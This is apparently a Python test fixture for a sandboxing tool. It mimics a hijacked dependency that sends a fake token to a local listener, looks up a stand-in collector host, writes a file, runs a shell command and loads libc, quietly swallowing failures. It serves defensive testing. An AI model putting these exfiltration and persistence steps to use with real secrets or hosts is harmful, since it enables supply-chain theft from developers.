"""A stand-in for a hijacked dependency: it tries to steal and to persist.

Run it under `hermetic --profile block-all` next to a listener on
127.0.0.1 (the port is the first argument). It sends a fake token to the
listener, looks up a collector host, writes a file, starts a shell and
loads libc through ctypes, all in the directory given as the second
argument. Each attempt is caught, as real malware would hide its failures,
and hermetic still reports every one when the program ends.
"""

import os
import socket
import subprocess
import sys

FAKE_SECRET = b"FAKE-API-TOKEN-not-a-real-secret"
COLLECTOR = "collector.example.invalid"


def send_to_listener(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(FAKE_SECRET)


def look_up_collector():
    socket.getaddrinfo(COLLECTOR, 443)


def write_file(workdir):
    with open(os.path.join(workdir, "written-by-exfiltrate"), "w", encoding="ascii") as marker:
        marker.write("persisted\n")


def start_shell(workdir):
    subprocess.run(["sh", "-c", f"echo ran > {workdir}/started-by-exfiltrate"], check=True)


def load_native_code():
    import ctypes
    ctypes.CDLL("libc.so.6").getpid()


def main():
    port, workdir = int(sys.argv[1]), sys.argv[2]
    steps = (
        ("send the secret to 127.0.0.1", lambda: send_to_listener(port)),
        (f"look up {COLLECTOR}", look_up_collector),
        ("write a file", lambda: write_file(workdir)),
        ("start a shell", lambda: start_shell(workdir)),
        ("load libc with ctypes", load_native_code),
    )
    for name, step in steps:
        try:
            step()
            print(f"exfiltrate.py: {name}: done")
        except Exception as error:  # a hijacked package hides its failures
            print(f"exfiltrate.py: {name}: failed with {type(error).__name__}: {error}")


if __name__ == "__main__":
    main()
